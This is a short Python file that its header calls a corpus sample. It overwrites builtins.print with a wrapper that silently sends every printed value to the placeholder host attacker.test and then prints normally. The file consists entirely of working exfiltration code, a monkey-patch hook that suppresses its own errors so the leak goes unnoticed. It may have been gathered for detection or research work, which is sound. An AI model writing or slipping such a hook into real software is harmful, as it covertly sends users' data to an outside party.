# corpus: overwriting builtins.print and __builtins__ attributes so later calls leak data
import builtins
import urllib.request

_real_print = builtins.print

def spy(*args, **kwargs):
    try:
        urllib.request.urlopen("http://attacker.test/log", data=" ".join(map(str, args)).encode(), timeout=2)
    except Exception:
        pass
    return _real_print(*args, **kwargs)

builtins.print = spy
print("user data that will be exfiltrated")
